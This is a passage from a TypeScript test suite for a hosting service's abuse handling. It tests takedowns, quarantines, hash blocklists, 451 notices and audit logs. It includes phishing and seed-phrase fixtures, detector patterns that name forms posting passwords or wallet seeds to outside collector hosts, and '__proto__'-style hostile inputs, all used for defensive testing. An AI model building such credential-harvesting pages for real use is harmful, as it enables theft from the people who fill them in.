        assert.ok(blocked.has(sha(bytes)), `${what} is blocked`)
      assert.ok(!blocked.has(sha(lib)), "another account's earlier file is spared")
      // the preview's page cannot come back, under that account or another
      expectError(await batchUpload(s, { key: other.key }, 'again', [{ filename: 'login.html', data: draft }]), 451, 1701)
    })

    it("a site's takedown leaves off the blocklist the bytes another account published before it, and empty files (231)", async () => {
      const owner = await s.user()
      const copier = await s.user()
      const style = `body{margin:0} /* ${crypto.randomBytes(6).toString('hex')} */`
      const home = HTML('my bakery', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      assert.equal((await deploySite(s, owner.key, 'bakery', { 'index.html': home, 'style.css': style, '.nojekyll': '' })).res.status, 201)
      // a phishing project made after it, carrying the owner's stylesheet, a copy of their page and an empty file
      const bad = HTML('bank login', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)
      const files = { 'index.html': bad, 'style.css': style, 'copy.html': home, '.nojekyll': '' }
      assert.equal((await deploySite(s, copier.key, 'bank', files)).res.status, 201)
      await takeDown(`${s.url}/${copier.username}/bank/`, 'phishing')
      const blocked = new Set(((await adminCall('GET', '/svc_api/admin/blocklist')).json.data.digests as Array<{ digest: string }>).map((d) => d.digest))
      assert.ok(blocked.has(sha(bad)), 'the phishing page is blocked')
      for (const [what, bytes] of [
        ['the stylesheet', style],
        ['the copied page', home],
        ['the empty file', ''],
      ])
        assert.ok(!blocked.has(sha(bytes)), `${what} is not blocked`)
      // the owner publishes and deploys their own files as before; the phishing page stays refused
      assert.equal((await s.post('/api/folders/bakery/publish', { key: owner.key })).status, 200)
      assert.equal((await deploySite(s, owner.key, 'bakery2', { 'index.html': home, 'style.css': style, '.nojekyll': '' })).res.status, 201)
      expectError(await batchUpload(s, { key: copier.key }, 'bank2', [{ filename: 'index.html', data: bad }]), 451, 1701)
      assert.equal((await s.get(`/${copier.username}/bank/`)).status, 451)
      const entry = (await audit()).find((e) => e.action === 'abuse.takedown' && e.target === `site:${copier.username}/bank`)
      assert.equal(entry?.details?.not_blocked, 3, JSON.stringify(entry))
    })

    it('a takedown stops the same bytes in every data link: pinned or default, other files and users, a new version, a default switch', async () => {
      const mk = async () => {
        const u = await s.user()
        await svc(s, 'grant', u.username, 'hosted-data')
        return s.login(u.username, u.password)
      }
      const [mine, other] = [await mk(), await mk()]
      const bad = `restore your wallet: ${crypto.randomBytes(6).toString('hex')}`
      const create = async (cookie: string, name: string, content: string) => {
        const r = await s.post('/api/hosted-data/files', { cookie, json: { display_name: name, content, content_type: 'text/plain' } })
        assert.equal(r.status, 200, r.text)
        return r.json.file as { id: string; public_token: string }
      }
      const reported = await create(mine, 'seed.txt', bad)
      // the same bytes elsewhere before the takedown: another user's non-default version, and
      // the default of another file of the same user
      const notes = await create(other, 'notes.txt', 'clean notes')
      assert.equal((await s.post(`/api/hosted-data/files/${notes.id}/versions`, { cookie: other, json: { content: bad } })).status, 200)
      const twin = await create(mine, 'twin.txt', bad)
      const links = [
        `/svc-data/pub/${notes.public_token}?v=2`,
        `/hosted-data/pub/${notes.public_token}?v=2`,
        `/svc-data/pub/${twin.public_token}`,
        `/hosted-data/pub/${twin.public_token}?v=1`,
      ]
      // served twice: cached, the second answered before routing
      for (const p of links) for (let i = 0; i < 2; i++) assert.equal((await s.get(p)).text, bad, p)
      const reportId = await takeDown(`${s.url}/svc-data/pub/${reported.public_token}`, 'phishing')
      await assertRemoved(links)
      // the other file's own default is untouched; its blocked version is never the default again
      assert.equal((await s.get(`/svc-data/pub/${notes.public_token}`)).text, 'clean notes')
      expectError(await s.post(`/api/hosted-data/files/${notes.id}/default-version`, { cookie: other, json: { version: 2 } }), 451, 'plain')
      expectError(await s.post(`/api/hosted-data/files/${notes.id}/versions`, { cookie: other, json: { content: bad, set_default: true } }), 451, 'plain')
      const d = (await s.get(`/api/hosted-data/files/${notes.id}`, { cookie: other })).json.file
      assert.deepEqual([d.default_version, d.version_count], [1, 2])
      assert.equal((await s.get(`/svc-data/pub/${notes.public_token}`)).text, 'clean notes')
      // lift: served and switchable again
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${reportId}/lift`)).status, 200)
      assert.equal((await s.get(links[0])).text, bad)
      assert.equal((await s.post(`/api/hosted-data/files/${notes.id}/default-version`, { cookie: other, json: { version: 2 } })).status, 200)
      assert.equal((await s.get(`/svc-data/pub/${notes.public_token}`)).text, bad)
    })

    it('a takedown of an image stops its copies under other tokens and their variants, and refuses the bytes again', async () => {
      const mk = async () => {
        const u = await s.user()
        await svc(s, 'grant', u.username, 'image-host')
        return s.login(u.username, u.password)
      }
      const [mine, other, third] = [await mk(), await mk(), await mk()]
      const png = await makeImage('png', { width: 12, height: 12, color: `#${crypto.randomBytes(3).toString('hex')}` })
      const upload = (cookie: string, data: Buffer, name = 'x.png') => {
        const form = imageForm([{ name, data }])
        return s.post('/api/image-host/upload', { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      }
      const a = (await upload(mine, png)).json.images[0]
      const b = (await upload(other, png)).json.images[0]
      assert.equal(new URL(b.versioned_url).search, new URL(a.versioned_url).search, 'the same stored bytes')
      const links = [`/svc-img/pub/${b.public_token}`, `/image-host/pub/${b.public_token}`, new URL(b.versioned_url).pathname + new URL(b.versioned_url).search]
      links.push(`/svc-img/pub/${b.public_token}?w=6`, `/svc-img/pub/${b.public_token}?format=webp`)
      for (const p of links) for (let i = 0; i < 2; i++) assert.equal((await s.get(p)).status, 200, p)
      const reportId = await takeDown(`${s.url}/svc-img/pub/${a.public_token}`, 'copyright')
      await assertRemoved(links)
      // the same bytes again: a new image of a third user, or another image replaced with them
      expectError(await upload(third, png), 451, 'plain')
      const c = (await upload(third, await makeImage('png', { width: 5, height: 5 }))).json.images[0]
      const form = imageForm([{ name: 'y.png', data: png }])
      const rp = await s.post(`/api/image-host/images/${c.public_token}/replace`, {
        cookie: third,
        body: form.body,
        headers: { 'content-type': form.contentType },
      })
      expectError(rp, 451, 'plain')
      assert.equal((await s.get(`/svc-img/pub/${c.public_token}`)).status, 200)
      // lift: served again
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${reportId}/lift`)).status, 200)
      for (const p of links) assert.equal((await s.get(p)).status, 200, p)
    })

    it('a taken-down image comes back neither with nor without keep_metadata, whichever form was taken down', async () => {
      const cookies = await Promise.all(
        [0, 1].map(async () => {
          const u = await s.user()
          await svc(s, 'grant', u.username, 'image-host')
          return s.login(u.username, u.password)
        }),
      )
      const [owner, other] = cookies
      const upload = (cookie: string, data: Buffer, keep: boolean) => {
        const form = imageForm([{ name: 'photo.jpg', data }], { keep_metadata: String(keep) })
        return s.post('/api/image-host/upload', { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      }
      /** One picture (its pixels unique to this test) with a camera's EXIF of this make. */
      const photo = async (pixels: Buffer, make: string) => {
        const exif = jpegSegment(0xffe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), exifTiff(make, 1)]))
        return Buffer.concat([pixels.subarray(0, 2), exif, pixels.subarray(2)])
      }
      const pixels = () => makeImage('jpeg', { width: 12, height: 12, color: `#${crypto.randomBytes(3).toString('hex')}` })
      const cases: Array<[string, boolean]> = [
        ['the stripped form taken down', false],
        ['the form with metadata taken down', true],
      ]
      for (const [label, keptAtTakedown] of cases) {
        const p = await pixels()
        const [a, b] = [await photo(p, 'CAMERA-A'), await photo(p, 'CAMERA-B')]
        const up = await upload(owner, a, keptAtTakedown)
        assert.equal(up.status, 200, up.text)
        await takeDown(`${s.url}/svc-img/pub/${up.json.images[0].public_token}`, 'copyright')
        for (const [data, keep] of [
          [a, true],
          [a, false],
          [b, true],
          [b, false],
          [p, false],
        ] as const) {
          const r = await upload(other, data, keep)
          assert.equal(r.status, 451, `${label}: upload ${data === a ? 'a' : data === b ? 'b' : 'p'} keep_metadata=${keep}: ${r.text}`)
          expectError(r, 451, 'plain')
        }
      }
    })

    it('quarantines a folder project on both forms, an image link and a data link', async () => {
      await batchUpload(s, { key: bob.key }, 'proj', [
        { filename: 'index.html', data: HTML('proj') },
        { filename: 'a/b.html', data: HTML('deep') },
      ])
      const pub = await s.post('/api/folders/proj/publish', { key: bob.key })
      assert.equal(pub.status, 200, pub.text)
      assert.equal((await s.get(`/${bob.username}/proj/a/b.html`)).status, 200)
      const deployId = (await s.get('/api/folders/proj/deploys', { key: bob.key })).json.live_deploy_id as string
      assert.equal((await s.get(`/${bob.username}/proj@${deployId}/a/b.html`)).status, 200)
      const onProject = (path: string) => request(`${s.httpUrl}${path}`, { headers: { host: `proj.${bob.username}.localhost` } })
      assert.equal((await onProject('/a/b.html')).statusCode, 200)
      // a report of a URL on the project's own origin names the project
      let rep = await adminCall('POST', '/svc_api/admin/reports', { url: `http://proj.${bob.username}.localhost:8080/a/b.html`, category: 'malware' })
      assert.equal(rep.status, 201, rep.text)
      assert.equal(rep.json.data.target, `site:${bob.username}/proj`)
      // and so does one of a deploy's own origin ({deploy}--{project})
      const onDeployRep = await adminCall('POST', '/svc_api/admin/reports', {
        url: `http://${deployId}--proj.${bob.username}.localhost:8080/`,
        category: 'malware',
      })
      assert.equal(onDeployRep.status, 201, onDeployRep.text)
      assert.equal(onDeployRep.json.data.target, `site:${bob.username}/proj`)
      // opening a case is an admin write like the others: audited, with its report and category
      const opened = (await audit()).find((e) => e.action === 'abuse.open' && e.details.report === rep.json.data.id)
      assert.ok(opened, 'the case is in the audit log')
      assert.equal(opened.target, `site:${bob.username}/proj`)
      assert.equal(opened.details.category, 'malware')
      assert.equal(opened.via, 'web')
      let q = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
      assert.equal(q.json.data.evidence.length, 2)
      assert.equal((await s.get(`/${bob.username}/proj/a/b.html`)).status, 451)
      assert.equal((await s.get(`/${bob.username}/proj/`)).status, 451)
      assert.equal((await onSite(s, bob.username, '/proj/a/b.html')).status, 451)
      assert.equal((await onSite(s, bob.username, '/proj/a/b.html')).header('clear-site-data'), undefined, 'a hold for review clears nothing')
      for (const p of ['/a/b.html', '/', '/missing']) {
        const held = await onProject(p)
        assert.equal(held.statusCode, 451, `project origin ${p}`)
        assert.equal(held.headers['clear-site-data'], undefined, `project origin ${p}: a hold for review clears nothing`)
        // its report link names the URL asked for on that origin, not the path form's path
        const href = /<a href="([^"]*svc-report[^"]*)">/.exec(await held.body.text())?.[1]
        assert.equal(new URL(href!.replaceAll('&amp;', '&'), 'http://x').searchParams.get('url'), `http://proj.${bob.username}.localhost${p}`, p)
      }
      // its deploys' own URLs ({project}@{deploy}) are held with it
      assert.equal((await s.get(`/${bob.username}/proj@${deployId}/a/b.html`)).status, 451)
      assert.equal((await onSite(s, bob.username, `/proj@${deployId}/`)).status, 451)
      const onDeploy = await request(`${s.httpUrl}/a/b.html`, { headers: { host: `${deployId}--proj.${bob.username}.localhost` } })
      await onDeploy.body.text()
      assert.equal(onDeploy.statusCode, 451, "the deploy's own origin")
      assert.equal((await s.get(`/${bob.username}/other.html`)).status, 200)
      const projects = (await s.get('/api/folders', { key: bob.key })).json.folders as any[]
      assert.equal(projects.find((p) => p.name === 'proj').quarantined, true)
      assert.ok(projects.filter((p) => p.name !== 'proj').every((p) => p.quarantined === undefined))

      await svc(s, 'grant', bob.username, 'image-host')
      const form = imageForm([{ name: 'x.png', data: await makeImage('png', { width: 8, height: 8, color: '#ff0000' }) }])
      const up = await s.post('/api/image-host/upload', { cookie: bob.cookie, body: form.body, headers: { 'content-type': form.contentType } })
      const token = up.json.images[0].public_token as string
      assert.equal((await s.get(`/svc-img/pub/${token}`)).status, 200)
      rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/svc-img/pub/${token}`, category: 'copyright' })
      await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
      for (const p of [`/svc-img/pub/${token}`, `/image-host/pub/${token}`]) assert.equal((await s.get(p)).status, 451, p)
      // the owner's list marks the held image, and only it
      const other = imageForm([{ name: 'y.png', data: await makeImage('png', { width: 8, height: 8, color: '#00ff00' }) }])
      assert.equal(
        (await s.post('/api/image-host/upload', { cookie: bob.cookie, body: other.body, headers: { 'content-type': other.contentType } })).status,
        200,
      )
      const images = (await s.get('/api/image-host/images', { cookie: bob.cookie })).json.images as any[]
      assert.equal(images.length, 2)
      assert.deepEqual(images.map((i) => [i.public_token === token, i.quarantined ?? false]).sort(), [
        [false, false],
        [true, true],
      ])

      const d = await s.post('/api/hosted-data/files', { cookie: bob.cookie, json: { display_name: 'list.json', content: '{"a":1}' } })
      const dtoken = d.json.file.public_token as string
      assert.equal((await s.get(`/svc-data/pub/${dtoken}`)).status, 200)
      rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/svc-data/pub/${dtoken}`, category: 'spam' })
      q = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)
      assert.equal(q.status, 200, q.text)
      for (const p of [`/svc-data/pub/${dtoken}`, `/hosted-data/pub/${dtoken}?v=1`]) assert.equal((await s.get(p)).status, 451, p)
      const heldData = async () =>
        ((await s.get('/api/hosted-data/files', { cookie: bob.cookie })).json.files as any[]).find((f) => f.public_token === dtoken).quarantined
      assert.equal(await heldData(), true)
      await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/restore`)
      assert.equal((await s.get(`/svc-data/pub/${dtoken}`)).text, '{"a":1}')
      assert.equal(await heldData(), undefined)
    })

    it("answers the 451 notice in the visitor's language on every public route, HEAD included (decision 197)", async () => {
      const u = await s.user()
      const cookie = await s.login(u.username, u.password)
      assert.equal((await uploadFile(s, { key: u.key }, 'words.html', HTML('words'))).status, 200)
      await svc(s, 'grant', u.username, 'image-host')
      await svc(s, 'grant', u.username, 'hosted-data')
      // bytes of its own: the takedown below blocks them for every later upload
      const form = imageForm([{ name: 'w.png', data: await makeImage('png', { width: 8, height: 8, color: '#197197' }) }])
      const img = await s.post('/api/image-host/upload', { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      assert.equal(img.status, 200, img.text)
      const data = await s.post('/api/hosted-data/files', { cookie, json: { display_name: 'words.json', content: '{"w":1}' } })
      assert.equal(data.status, 200, data.text)
      const ids: string[] = []
      for (const url of [
        `${s.url}/${u.username}/words.html`,
        `${s.url}/svc-img/pub/${img.json.images[0].public_token}`,
        `${s.url}/svc-data/pub/${data.json.file.public_token}`,
      ]) {
        const rep = await adminCall('POST', '/svc_api/admin/reports', { url, category: 'spam' })
        assert.equal(rep.status, 201, rep.text)
        assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)).status, 200)
        ids.push(rep.json.data.id)
      }
      // the path form, the user's origin, an image link and a data link, each in both languages
      const routes: Array<
        [string, (method: string, headers: Record<string, string>) => Promise<{ status: number; text: string; header(n: string): string | undefined }>]
      > = [
        ['path form', (method, headers) => s.request(method, `/${u.username}/words.html`, { headers })],
        ["user's origin", (method, headers) => onSite(s, u.username, '/words.html', method, headers)],
        ['image link', (method, headers) => s.request(method, `/svc-img/pub/${img.json.images[0].public_token}`, { headers })],
        ['data link', (method, headers) => s.request(method, `/svc-data/pub/${data.json.file.public_token}`, { headers })],
      ]
      const everywhere = async (state: 'held' | 'removed') => {
        for (const [what, get] of routes)
          for (const [headers, lang] of VISITORS)
            for (const method of ['GET', 'HEAD']) assertNotice(await get(method, headers), lang, state, `${state} ${method} ${what} ${JSON.stringify(headers)}`)
      }
      await everywhere('held')
      for (const id of ids) assert.equal((await adminCall('POST', `/svc_api/admin/reports/${id}/takedown`, {})).status, 200)
      await everywhere('removed')
    })

    it('holds a project named with an accent at every Unicode spelling of its URLs (NFC or NFD)', async () => {
      const name = 'caf\u00e9'
      const nfc = encodeURIComponent(name)
      const nfd = encodeURIComponent(name.normalize('NFD'))
      const { res } = await deploySite(s, alice.key, nfc, { 'index.html': HTML('cafe'), 'menu.html': HTML('menu') })
      assert.equal(res.status, 201, res.text)
      const id = res.json.deploy.id as string
      const urls = (seg: string) => [`/${alice.username}/${seg}/`, `/${alice.username}/${seg}/menu.html`, `/${alice.username}/${seg}@${id}/`]
      // both spellings name the one project: the host serves it at either
      for (const p of [...urls(nfc), ...urls(nfd)]) assert.equal((await s.get(p)).status, 200, p)
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/${alice.username}/${nfc}/`, category: 'phishing' })
      assert.equal(rep.status, 201, rep.text)
      assert.equal(rep.json.data.target, `site:${alice.username}/${name}`)
      assert.equal((await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/quarantine`)).status, 200)
      for (const p of [...urls(nfc), ...urls(nfd)]) assert.equal((await s.get(p)).status, 451, p)
      for (const seg of [nfc, nfd]) assert.equal((await onSite(s, alice.username, `/${seg}/menu.html`)).status, 451, `user origin ${seg}`)
      // a report naming the NFD spelling names the same project
      const again = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/${alice.username}/${nfd}/menu.html`, category: 'phishing' })
      assert.equal(again.status, 201, again.text)
      assert.equal(again.json.data.target, `site:${alice.username}/${name}`)
      await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/restore`)
      for (const p of urls(nfd)) assert.equal((await s.get(p)).status, 200, p)
    })

    it('flags phishing-like pages at upload without blocking them; leaves ordinary pages alone', async () => {
      const heuristic = async () =>
        ((await adminCall('GET', '/svc_api/admin/reports?status=open&per_page=200')).json.data.reports as any[]).filter((r) => r.source === 'heuristic')
      const before = (await heuristic()).length
      assert.equal((await uploadFile(s, { key: bob.key }, 'benign.html', BENIGN)).status, 200)
      assert.equal((await heuristic()).length, before)
      const r = await uploadFile(s, { key: bob.key }, 'login.html', PHISH)
      assert.equal(r.status, 200, 'never blocked')
      assert.equal((await s.get(`/${bob.username}/login.html`)).status, 200, 'still served until reviewed')
      let flagged = await heuristic()
      const phish = flagged.find((x) => x.target === `site:${bob.username}/login.html`)
      assert.ok(phish, 'flagged')
      assert.equal(phish.category, 'phishing')
      assert.match(phish.details, /password field with a form posting to another site \(collector\.example\.net\)/)
      await uploadFile(s, { key: bob.key }, 'paypal.html', BRAND)
      await batchUpload(s, { key: bob.key }, 'wallet', [{ filename: 'index.html', data: SEED }])
      flagged = await heuristic()
      assert.match(flagged.find((x) => x.target === `site:${bob.username}/paypal.html`)?.details ?? '', /login page naming paypal/)
      assert.match(flagged.find((x) => x.target === `site:${bob.username}/wallet`)?.details ?? '', /seed-phrase field .*wallet-sync\.example\.org/)
      // the same page again: no second open report
      await uploadFile(s, { key: bob.key }, 'login.html', PHISH)
      assert.equal((await heuristic()).length, flagged.length)
      // an archive deploy (svc deploy, MCP's deploy) is scanned as a folder batch is: a page it
      // carries, preview or live, opens the report; the one it takes from a project does not
      const portal = { 'index.html': '<!doctype html><title>ok</title><p>welcome', 'account/verify.html': `${SEED}<!-- portal -->` }
      assert.equal(
        (await postArchive(s, bob.key, 'portal', await tarOf([manifestOf(portal), ...Object.entries(portal).map(([name, data]) => ({ name, data }))]))).status,
        201,
      )
      flagged = await heuristic()
      const deployed = flagged.find((x) => x.target === `site:${bob.username}/portal`)
      assert.ok(deployed, 'a deployed phishing page is flagged')
      assert.match(deployed.details, /seed-phrase field/)
      // each report names the page where it is served: the service's origin, port included
      assert.equal(deployed.url, `${s.url}/${bob.username}/portal/account/verify.html`)
      assert.equal(phish.url, `${s.url}/${bob.username}/login.html`)
      assert.equal(flagged.find((x) => x.target === `site:${bob.username}/wallet`)?.url, `${s.url}/${bob.username}/wallet/index.html`)
      // and is stored as the reasons alone: the console words the source (flagged at upload)
      assert.doesNotMatch(deployed.details, /flagged at upload/)
      const preview = { 'index.html': `${PHISH}<!-- preview -->` }
      const previewed = await postArchive(
        s,
        bob.key,
        'drafts',
        await tarOf([manifestOf(preview, { preview: true }), { name: 'index.html', data: preview['index.html'] }]),
      )
      assert.equal(previewed.status, 201, previewed.text)
      assert.ok(
        (await heuristic()).some((x) => x.target === `site:${bob.username}/drafts`),
        'a preview deploy is flagged too',
      )
    })

    it('sends the report link of a user origin to the service report page with the page prefilled', async () => {
      const r = await onSite(s, bob.username, '/.well-known/svc-report', 'GET', { referer: `http://${bob.username}.localhost/login.html` })
      assert.equal(r.status, 302)
      const to = new URL(r.header('location')!)
      assert.equal(to.pathname, '/report')
      assert.equal(to.searchParams.get('url'), `http://${bob.username}.localhost/login.html`)
      const svcHost = await s.get('/.well-known/svc-report?url=https%3A%2F%2Fx.example%2Fa')
      assert.equal(svcHost.status, 302)
      assert.equal(svcHost.header('location'), '/report?url=https%3A%2F%2Fx.example%2Fa')
    })

    it('shows a known ?error= on /report and ignores any other, names of Object.prototype included', async () => {
      for (const e of ['hasOwnProperty', 'constructor', 'toString', '__proto__', 'nope']) {
        const r = await s.get(`/report?error=${e}`)
        assert.equal(r.status, 200, e)
        assert.ok(!r.text.includes('id="report-error"'), `${e}: no error shown`)
      }
      const known = await s.get('/report?error=invalid')
      assert.equal(known.status, 400)
      assert.match(known.text, /id="report-error"/)
    })

    it('exports the audit log as JSON and CSV, CLI actions included', async () => {
      await svc(s, 'user', 'set', bob.username, '--limit', 'files=7', '--password', 'a-new-password-123')
      const json = await adminCall('GET', '/svc_api/admin/audit?format=json')
      assert.equal(json.status, 200)
      assert.match(json.header('content-disposition')!, /attachment; filename="svc-audit-\d{4}-\d{2}-\d{2}\.json"/)
      const entries = JSON.parse(json.text) as any[]
      const cli = entries.find((e) => e.action === 'cli.user.set')
      assert.ok(cli, 'the CLI action is logged')
      assert.equal(cli.via, 'cli')
      assert.equal(cli.target, bob.username)
      assert.ok(!JSON.stringify(cli).includes('a-new-password-123'), 'never a password')
      assert.ok(entries.some((e) => e.action === 'abuse.takedown'))
      const csv = await adminCall('GET', '/svc_api/admin/audit?format=csv')
      assert.equal(csv.header('content-type'), 'text/csv; charset=utf-8')
      const lines = csv.text
        .replace(/^\ufeff/, '')
        .trim()
        .split('\r\n')
      assert.equal(lines[0], 'id,at,actor,via,action,target,details,ip,user_agent')
      assert.equal(lines.length, entries.length + 1)
    })

    it('pages the account and report lists past their end: empty up to the bound, 400 beyond, never 500', async () => {
      for (const list of ['users', 'reports']) {
        const far = await adminCall('GET', `/svc_api/admin/${list}?page=999999999&per_page=200`)
        assert.equal(far.status, 200, far.text)
        assert.deepEqual(far.json.data[list], [])
        for (const page of ['99999999999999999999', '1e300', '1000000000'])
          expectError(await adminCall('GET', `/svc_api/admin/${list}?page=${page}`), 400, 1106)
      }
    })

    it("a takedown of an image that also disables the account takes the owner's pages offline at once", async () => {
      const u = await s.user()
      const cookie = await s.login(u.username, u.password)
      assert.equal((await uploadFile(s, { key: u.key }, 'home.html', HTML('home'))).status, 200)
      // served (and so cached) before the takedown, on both forms
      assert.equal((await s.get(`/${u.username}/home.html`)).status, 200)
      assert.equal((await onSite(s, u.username, '/home.html')).status, 200)
      await svc(s, 'grant', u.username, 'image-host')
      const form = imageForm([{ name: 'z.png', data: await makeImage('png', { width: 8, height: 8, color: '#0000ff' }) }])
      const up = await s.post('/api/image-host/upload', { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      const token = up.json.images[0].public_token as string
      const rep = await adminCall('POST', '/svc_api/admin/reports', { url: `${s.url}/svc-img/pub/${token}`, category: 'malware' })
      assert.equal(rep.status, 201, rep.text)
      const td = await adminCall('POST', `/svc_api/admin/reports/${rep.json.data.id}/takedown`, { disable_account: true })
      assert.equal(td.status, 200, td.text)
      assert.equal((await s.deps.users.byId(u.id))?.disabled, true)
      assert.equal((await s.get(`/svc-img/pub/${token}`)).status, 451)
      assert.equal((await s.get(`/${u.username}/home.html`)).status, 404, "the disabled account's pages go offline at once")
      assert.equal((await onSite(s, u.username, '/home.html')).status, 404)
    })

    it('rate-limits reports per address (429 / 1703)', async () => {
      let last: Res | null = null
      for (let i = 0; i < 25; i++) {
        last = await report({ url: `${s.url}/nobody/page${i}.html`, category: 'spam' })
        if (last.status === 429) break
      }
      expectError(last!, 429, 1703)
      assert.ok(Number(last!.header('retry-after')) > 0)
    })
  })

  describe(`takedowns and the owner's writes at the same moment [${engine}]`, () => {
    let s: TestServer
    let admin: User
    before(async () => {
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS } })
      const u = await s.user({ admin: true })
      admin = { ...u, cookie: await s.login(u.username, u.password) }
    })
    after(() => s.close())
    const adminCall = (p: string, json: unknown) => s.post(p, { cookie: admin.cookie, json })

    /**
     * Runs `write` until the blob store's `step` (put or admit) has let its bytes through, takes
     * `url` down meanwhile, then lets the write go on; returns its answer.
     */
    async function takedownDuring(step: 'put' | 'admit', url: string, write: () => Promise<Res>): Promise<Res> {
      const blobs = s.deps.blobs as unknown as Record<string, (...a: unknown[]) => Promise<unknown>>
      const original = blobs[step]
      let reached!: () => void
      const atStep = new Promise<void>((r) => (reached = r))
      let release!: () => void
      const released = new Promise<void>((r) => (release = r))
      blobs[step] = async (...a: unknown[]) => {
        const out = await original(...a)
        blobs[step] = original
        reached()
        await released
        return out
      }
      try {
        const answer = write()
        await atStep
        const rep = await adminCall('/svc_api/admin/reports', { url, category: 'phishing' })
        assert.equal(rep.status, 201, rep.text)
        const down = await adminCall(`/svc_api/admin/reports/${rep.json.data.id}/takedown`, {})
        assert.equal(down.status, 200, down.text)
        release()
        return await answer
      } finally {
        blobs[step] = original
        release()
      }
    }

    /**
     * Runs `write` until it holds user `userId`'s lock, starts `act` meanwhile, and lets the write
     * go on once `act` asks for the same lock (or, were it to take none, once it is done).
     * PostgreSQL only: SQLite transactions never interleave.
     */
    async function whileWriteHoldsLock(userId: string, write: () => Promise<Res>, act: () => Promise<Res>): Promise<{ write: Res; admin: Res }> {
      const db = s.deps.db
      const lockUser = db.lockUser.bind(db)
      let open!: () => void
      const opened = new Promise<void>((r) => (open = r))
      let reached!: () => void
      const holding = new Promise<void>((r) => (reached = r))
      let calls = 0
      db.lockUser = async (trx, id) => {
        if (id !== userId) return lockUser(trx, id)
        calls++
        if (calls === 1) {
          await lockUser(trx, id)
          reached()
          await opened
          return
        }
        open()
        return lockUser(trx, id)
      }
      try {
        const written = write()
        await holding
        const acted = act().finally(() => open())
        return { write: await written, admin: await acted }
      } finally {
        db.lockUser = lockUser
        open()
      }
    }

    it('a deploy, publish or upload checked before a takedown of its bytes is refused after it (451 / 1701)', async () => {
      const m = await s.user()
      const page = () => HTML('wallet login', `<p>${crypto.randomBytes(6).toString('hex')}</p>`)

      // an archive deploy that names bytes the user holds (in a project not published): its check
      // passed, then they are taken down
      const a = page()
      assert.equal((await deploySite(s, m.key, 'evil-a', { 'index.html': a })).res.status, 201)
      assert.equal((await batchUpload(s, { key: m.key }, 'keep', [{ filename: 'index.html', data: a }])).status, 200)
      const tar = await tarOf([manifestOf({ 'index.html': a })])
      const deployed = await takedownDuring('admit', `${s.url}/${m.username}/evil-a/`, () => postArchive(s, m.key, 'again', tar))
      expectError(deployed, 451, 1701)
      assert.equal((await s.get(`/${m.username}/again/`)).status, 404, 'the deploy made nothing live')

      // a publish of a project holding them
      const b = page()
      assert.equal((await deploySite(s, m.key, 'evil-b', { 'index.html': b })).res.status, 201)
      assert.equal((await batchUpload(s, { key: m.key }, 'stash', [{ filename: 'index.html', data: b }])).status, 200)
      const published = await takedownDuring('admit', `${s.url}/${m.username}/evil-b/`, () => s.post('/api/folders/stash/publish', { key: m.key }))
      expectError(published, 451, 1701)
      assert.equal((await s.get(`/${m.username}/stash/`)).status, 404, 'the publish made nothing live')

      // a single-file upload whose bytes were stored (and checked) before the takedown
      const c = page()
      assert.equal((await uploadFile(s, { key: m.key }, 'evil-c.html', c)).status, 200)
      const uploaded = await takedownDuring('put', `${s.url}/${m.username}/evil-c.html`, () => uploadFile(s, { key: m.key }, 'copy.html', c))
      expectError(uploaded, 451, 'CONTENT_BLOCKED') // the single-file upload's format B
      assert.equal((await s.get(`/${m.username}/copy.html`)).status, 404, 'the upload stored no page')
    })

    it('an image or data upload, replace, new version or default checked before a takedown of its bytes is refused after it (451)', async () => {
      const m = await s.user()
      await svc(s, 'grant', m.username, 'image-host')
      await svc(s, 'grant', m.username, 'hosted-data')
      const cookie = await s.login(m.username, m.password)
      const png = () => makeImage('png', { width: 9, height: 9, color: `#${crypto.randomBytes(3).toString('hex')}` })
      const sendImage = (path: string, data: Buffer) => {
        const form = imageForm([{ name: 'x.png', data }])
        return s.post(path, { cookie, body: form.body, headers: { 'content-type': form.contentType } })
      }
      const upload = async (data: Buffer) => {
        const r = await sendImage('/api/image-host/upload', data)
        assert.equal(r.status, 200, r.text)
        return r.json.images[0] as { public_token: string }
      }
      const imageTokens = async () =>
        ((await s.get('/api/image-host/images', { cookie })).json.images as Array<{ public_token: string }>).map((i) => i.public_token)

      // a new image of bytes the user holds as another image
      const a = await png()
      const held = await upload(a)
      const copied = await takedownDuring('put', `${s.url}/svc-img/pub/${held.public_token}`, () => sendImage('/api/image-host/upload', a))
      expectError(copied, 451, 'plain')
      assert.deepEqual(await imageTokens(), [], 'no image stored')

      // another image replaced with them: it keeps its own bytes
      const b = await png()
      const heldB = await upload(b)
      const other = await upload(await png())
      const replaced = await takedownDuring('put', `${s.url}/svc-img/pub/${heldB.public_token}`, () =>
        sendImage(`/api/image-host/images/${other.public_token}/replace`, b),
      )
      expectError(replaced, 451, 'plain')
      const served = await s.get(`/svc-img/pub/${other.public_token}`)
      assert.equal(served.status, 200)
      assert.notEqual(sha(served.body), sha(b), 'the image was not replaced')

      // data: a new file, a new version, a version made the default
      const create = async (name: string, content: string) => {
        const r = await s.post('/api/hosted-data/files', { cookie, json: { display_name: name, content, content_type: 'text/plain' } })
        assert.equal(r.status, 200, r.text)
        return r.json.file as { id: string; public_token: string }
      }
      const seed = () => `restore your wallet: ${crypto.randomBytes(6).toString('hex')}`
